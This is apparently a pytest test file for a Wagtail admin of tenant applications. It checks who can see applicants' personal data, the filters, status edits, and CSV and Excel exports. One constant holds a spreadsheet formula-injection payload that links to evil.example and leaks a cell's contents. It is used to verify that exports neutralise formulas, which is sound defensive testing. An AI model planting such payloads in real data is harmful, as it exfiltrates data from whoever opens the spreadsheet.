"""The applications in the Wagtail admin: who sees them (personal data), filters, status and note, export."""

import csv
import io

from django.contrib.auth.models import Group
from django.utils import timezone

import openpyxl
import pytest

from applications.models import Application, Status
from buildings.models import BuildingPage
from tests.factories import SuperuserFactory, UserFactory

pytestmark = pytest.mark.django_db

INDEX = "/admin/applications_application/"
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'


def make_application(**fields):
    values = {
        "language": "ru",
        "company_name": "Балтийские системы",
        "inn": "7707083893",
        "contact_person": "Анна Смирнова",
        "email": "anna@baltic-systems.example",
        "phone": "8 4012 123-45-67",
        "area": 1500,
        "move_in_quarter": "2027-Q3",
        "consented_at": timezone.now(),
    }
    values.update(fields)
    return Application.objects.create(**values)


def member_of(group_name):
    user = UserFactory(admin_language="en")
    user.groups.add(Group.objects.get(name=group_name))
    return user


@pytest.fixture
def moderator(client):
    user = member_of("Moderators")
    client.force_login(user)
    return user


@pytest.mark.parametrize("group_name", ["Editors", "Translators"])
def test_editors_and_translators_never_see_applications(client, group_name):
    """If this fails, people without a need to see applicants' personal data can read it."""
    application = make_application()
    client.force_login(member_of(group_name))
    assert INDEX not in client.get("/admin/").content.decode()
    for url in (INDEX, f"{INDEX}edit/{application.pk}/", f"{INDEX}?export=csv"):
        response = client.get(url)
        assert response.status_code in (302, 403), url
        assert b"anna@baltic-systems.example" not in b"".join(
            getattr(response, "streaming_content", [response.content])
        )


@pytest.mark.parametrize("who", ["moderator", "superuser"])
def test_moderators_and_superusers_see_the_menu_and_the_list(client, who):
    """If this fails, the park's office cannot see the applications it must answer."""
    make_application()
    client.force_login(member_of("Moderators") if who == "moderator" else SuperuserFactory(admin_language="en"))
    assert INDEX in client.get("/admin/").content.decode()
    response = client.get(INDEX)
    assert response.status_code == 200
    assert "Балтийские системы" in response.content.decode()


def test_nobody_adds_an_application_in_the_admin(client):
    """If this fails, the list could mix made-up applications with real ones."""
    client.force_login(SuperuserFactory(admin_language="en"))
    assert f'href="{INDEX}new/"' not in client.get(INDEX).content.decode()
    assert client.get(f"{INDEX}new/").status_code in (302, 403)
    assert not Application.objects.exists()


def test_moderator_changes_status_and_note_but_not_the_application(client, moderator):
    """If this fails, the office can't track its answers, or could alter what the applicant sent."""
    application = make_application()
    url = f"{INDEX}edit/{application.pk}/"
    assert client.get(url).status_code == 200
    response = client.post(
        url, {"status": Status.ANSWERED, "note": "Offered 1,400 m² in Office D.", "company_name": "Changed"}
    )
    assert response.status_code == 302
    application.refresh_from_db()
    assert application.status == Status.ANSWERED
    assert application.note == "Offered 1,400 m² in Office D."
    assert application.company_name == "Балтийские системы"


def test_bad_status_is_refused_and_nothing_changes(client, moderator):
    """If this fails, a tampered form stores a status the list and filters don't know."""
    application = make_application()
    response = client.post(f"{INDEX}edit/{application.pk}/", {"status": "lost", "note": "x"})
    assert response.status_code == 200
    application.refresh_from_db()
    assert application.status == Status.NEW and application.note == ""


def test_filters_by_status_building_and_date(client, moderator, ru, en):
    """If this fails, the office can't find the applications still waiting, or those for one building."""
    office_d_ru = BuildingPage.objects.get(slug="office-d", locale=ru)
    office_d_en = BuildingPage.objects.get(slug="office-d", locale=en)
    make_application(company_name="Waiting RU", building=office_d_ru)
    make_application(company_name="Waiting EN", building=office_d_en, language="en")
    make_application(company_name="Replied Ltd", status=Status.ANSWERED)
    old = make_application(company_name="Last year")
    Application.objects.filter(pk=old.pk).update(created_at=timezone.now() - timezone.timedelta(days=400))

    def names(query):
        html = client.get(INDEX, query).content.decode()
        return {name for name in ("Waiting RU", "Waiting EN", "Replied Ltd", "Last year") if name in html}

    assert names({"status": "new"}) == {"Waiting RU", "Waiting EN", "Last year"}
    # An application made in English for the same building counts as that building.
    assert names({"building": office_d_ru.pk}) == {"Waiting RU", "Waiting EN"}
    since = (timezone.now() - timezone.timedelta(days=30)).date().isoformat()
    assert names({"created_at_from": since}) == {"Waiting RU", "Waiting EN", "Replied Ltd"}


def test_csv_export_neutralises_formulas(client, moderator):
    """If this fails, a company named like a formula runs code in the office's spreadsheet."""
    make_application(company_name=HOSTILE, message="@SUM(1+1)", area=1500)
    response = client.get(INDEX, {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    header, row = rows[0], rows[1]
    cells = dict(zip(header, row, strict=True))
    assert cells["Company name"] == "'" + HOSTILE
    assert cells["Message"] == "'@SUM(1+1)"
    assert cells["Taxpayer number (INN)"] == "7707083893"
    assert cells["Space needed, m²"] == "1500"  # a number stays a number
    assert cells["Status"] == "New"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_xlsx_export_stores_formulas_as_text(client, moderator):
    """If this fails, the Excel download runs a hostile company name as a formula."""
    make_application(company_name=HOSTILE)
    response = client.get(INDEX, {"export": "xlsx"})
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("Company name") + 1)
    assert cell.value == HOSTILE and cell.data_type == "s"
